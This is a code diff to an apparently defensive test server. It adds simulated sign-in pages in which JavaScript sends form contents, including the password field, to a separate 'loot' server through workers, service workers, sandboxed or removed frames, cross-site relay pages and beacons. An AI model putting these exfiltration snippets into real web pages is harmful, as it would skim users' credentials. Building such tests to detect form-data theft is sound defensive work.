@@ -78,6 +78,29 @@ TAKEN_BY_REDIRECT = {
     "taken-beacon": ("a beacon", {"change": "navigator.sendBeacon(to, text()); return false;"}),
     "taken-worker": ("a worker sends it", {"change":
         "new Worker('/scripted/worker.js').postMessage([to, text()]); return false;"}),
+    "taken-shared": ("a shared worker sends it", {"change":
+        "self.SharedWorker ? new SharedWorker('/scripted/worker.js').port.postMessage([to, text()])"
+        " : fetch(to, { method: 'POST', mode: 'no-cors', body: text() }); return false;"}),
+    "taken-own-service": ("a service worker sends it by itself", {
+        "start": "await navigator.serviceWorker?.register('/scripted/worker.js');",
+        "change": "navigator.serviceWorker ? navigator.serviceWorker.ready.then(one => one.active.postMessage([to, text()]))"
+                  " : fetch(to, { method: 'POST', mode: 'no-cors', body: text() }); return false;"}),
+    "taken-sandbox": ("a frame in a sandbox sends it", {"change":
+        "frame({ sandbox: 'allow-forms allow-scripts', srcdoc: `<form method=post action=${to}><input name=x></form><script>"
+        "document.forms[0].x.value = ${JSON.stringify(text())}; document.forms[0].submit()<\\/script>` }); return false;"}),
+    # These send the form itself afterwards, so that the sign-in ends.
+    "taken-sandbox-directly": ("a form of a frame in a sandbox goes to the other server", {"change":
+        "frame({ sandbox: 'allow-forms allow-scripts', srcdoc: `<form method=post action={loot}><input name=x></form><script>"
+        "document.forms[0].x.value = '${form.password.value}'; document.forms[0].submit()<\\/script>` }); return later();"}),
+    "taken-site": ("a frame of another site sends it", {"change":
+        "const one = frame({ src: location.origin.replace('good.', '') + '/scripted/relay' });"
+        "one.onload = () => one.contentWindow.postMessage(['/scripted/passed', 'what it was given'], '*');"
+        "onmessage = () => form.submit(); return false;"}),
+    "taken-gone": ("a frame that is gone at once sends it", {"change":
+        "const one = frame({}); one.contentWindow.fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: text() });"
+        "one.remove(); return later();"}),
+    "taken-gone-beacon": ("the same by a beacon", {"change":
+        "const one = frame({}); one.contentWindow.navigator.sendBeacon(to, text()); one.remove(); return later();"}),
     "taken-service": ("a service worker sends what the form sends", {"start":
         "await navigator.serviceWorker?.register('/scripted/service.js').then(() => navigator.serviceWorker.ready);"}),
 }
@@ -145,7 +168,7 @@ def taken(visit, shape):
         "target": by_redirect.get("target", "/scripted/passed") if shape in TAKEN_BY_REDIRECT
         else "scripted/loot" if shape == "taken-base" else "/scripted/honest",
         "button": {"taken-button": f'formaction="{loot}"', "taken-get": 'formmethod="get"'}.get(shape, ""),
-        "change": f'form.action = "{loot}";' if shape == "taken-script" else by_redirect.get("change", ""),
+        "change": f'form.action = "{loot}";' if shape == "taken-script" else by_redirect.get("change", "").replace("{loot}", loot),
         "frame": f'<iframe src="{thief}" width="300" height="60"></iframe>' if shape == "taken-focus"
         else by_redirect.get("frame", ""),
     }
@@ -215,10 +238,17 @@ def passed(visit):
         visit.redirect(visit.context.urls["other"] + "/scripted/loot", 308 if how == "308" else 307)
 
 
-@page("/scripted/worker.js", "a worker that sends what it is given")
+@page("/scripted/worker.js", "a worker of any kind that sends what it is given")
 def worker(visit):
-    visit.answer(200, "onmessage = event => fetch(event.data[0], { method: 'POST', mode: 'no-cors', body: event.data[1] });",
-                 "text/javascript")
+    visit.answer(200, "onmessage = event => fetch(event.data[0], { method: 'POST', mode: 'no-cors', body: event.data[1] });"
+                      "onconnect = event => event.ports[0].onmessage = onmessage;", "text/javascript")
+
+
+@page("/scripted/relay", "a page that sends what it is given, and tells when it was answered, for the frame of /scripted/taken-site")
+def relay(visit):
+    visit.html("Relay", """<script>onmessage = event =>
+        fetch(event.data[0], { method: 'POST', mode: 'no-cors', body: event.data[1] })
+            .catch(() => {}).then(() => event.source.postMessage('', '*'));</script>""")
 
 
 @page("/scripted/service.js", "a service worker that sends each request of its pages itself")
